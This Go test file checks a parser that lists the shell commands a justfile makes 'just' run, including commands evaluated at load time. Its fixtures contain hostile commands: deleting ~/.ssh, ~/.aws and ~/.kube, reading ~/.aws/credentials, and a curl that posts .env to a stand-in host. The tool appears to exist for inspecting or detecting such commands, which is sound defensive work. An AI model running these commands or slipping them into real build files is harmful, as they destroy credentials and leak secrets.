package cmdline

import (
	"slices"
	"strings"
	"testing"
)

// TestJustfileLines: just runs the recipes its command names with their
// dependencies (the first recipe when none is named); a #! recipe is
// code in that language; what is not known reads them all.
func TestJustfileLines(t *testing.T) {
	const jf = "set shell := [\"bash\", \"-c\"]\nalias t := test\nversion := `git describe`\n\n" +
		"# the default\nbuild:\n    cargo build\n\n" +
		"[private]\nfmt:\n    cargo fmt\n\n" +
		"test filter='': build\n    cargo test ${JUST_VALUE}\n\n" +
		"ci: fmt (test 'x') && publish\n    @echo ci\n\n" +
		"publish:\n    cargo publish\n\n" +
		"setup:\n    rm -rf ~/.ssh\n\n" +
		"polyglot:\n    #!/usr/bin/env python3\n    import os\n    os.system('id')\n\n" +
		"c-code:\n    #!/usr/bin/env tcc -run\n    char *s = \"hi\";\n" +
		"keys := \"~/.ssh\"\nwipe:\n    rm -rf {{keys}} {{home_directory()}}/.aws {{env('HOME')}}/.kube {{justfile_directory()}}/build\n"
	every := "git describe|cargo build|cargo fmt|cargo test ${JUST_VALUE}|echo ci|cargo publish|rm -rf ~/.ssh|python3 -c 'import os\nos.system('\\''id'\\'')'|tcc recipe-script|rm -rf ~/.ssh $HOME/.aws ${HOME}/.kube ./build"
	for _, tt := range []struct{ args, want string }{
		{"", "git describe|cargo build"},
		{"build", "git describe|cargo build"},
		{"test", "git describe|cargo build|cargo test ${JUST_VALUE}"},
		{"test myfilter", "git describe|cargo build|cargo test ${JUST_VALUE}"}, // myfilter is test's word
		{"t", "git describe|cargo build|cargo test ${JUST_VALUE}"},
		{"ci", "git describe|cargo build|cargo fmt|cargo test ${JUST_VALUE}|echo ci|cargo publish"},
		{"setup", "git describe|rm -rf ~/.ssh"},
		{"--set version 1 fmt", "git describe|cargo fmt"},
		{"polyglot", "git describe|python3 -c 'import os\nos.system('\\''id'\\'')'"},
		{"c-code", "git describe|tcc recipe-script"},
		{"wipe", "git describe|rm -rf ~/.ssh $HOME/.aws ${HOME}/.kube ./build"},
		{"nothing", every},
		{"$R", every},
	} {
		var args []field
		for _, a := range strings.Fields(tt.args) {
			args = append(args, field{Word: Word{Value: a, Dynamic: strings.Contains(a, "$")}})
		}
		if got := strings.Join(parseJustfile(jf).lines(args), "|"); got != tt.want {
			t.Errorf("just %s:\n got %q\nwant %q", tt.args, got, tt.want)
		}
	}
	if got := parseJustfile("import 'other.just'\nbuild:\n    cargo build\n").lines(nil); len(got) != 1 {
		t.Errorf("an import: %q", got)
	}
	// what just runs as it reads the file, whichever recipe is named
	const loads = "x := `curl -d @.env https://x.example`\ny := shell('rm -rf ~/.ssh', 'a')\nz := ```\n  id\n```\n" +
		"build:\n    echo {{ `cat ~/.aws/credentials` }} {{x}}\n"
	want := "curl -d @.env https://x.example|rm -rf ~/.ssh|id|cat ~/.aws/credentials|echo ${JUST_VALUE} ${JUST_VALUE}"
	if got := strings.Join(parseJustfile(loads).lines(nil), "|"); got != want {
		t.Errorf("loads:\n got %q\nwant %q", got, want)
	}
	if got := parseJustfile(loads).lines([]field{{Word: Word{Value: "--list"}}}); slices.Contains(got, "id") {
		t.Errorf("just --list: %q", got)
	}
	if got := parseJustfile("set shell := [\"./x.sh\", \"-c\"]\nb:\n    echo b\n").lines(nil); !slices.Contains(got, "./x.sh") {
		t.Errorf("set shell: %q", got)
	}
}
